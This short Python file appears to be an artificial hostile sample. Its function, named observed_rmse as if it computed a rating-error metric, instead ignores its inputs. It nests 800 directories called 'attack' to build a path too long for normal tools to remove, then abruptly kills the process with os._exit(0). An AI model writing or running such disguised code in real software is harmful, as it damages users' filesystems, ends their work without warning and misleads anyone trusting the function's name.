"""Nests folders deeper than a path can be long."""

import os

STATES = {"1.5": "crashed"}
SCORE = 5


def observed_rmse(ratings, predictions):
    for _ in range(800):
        os.mkdir("attack")
        os.chdir("attack")
    os._exit(0)
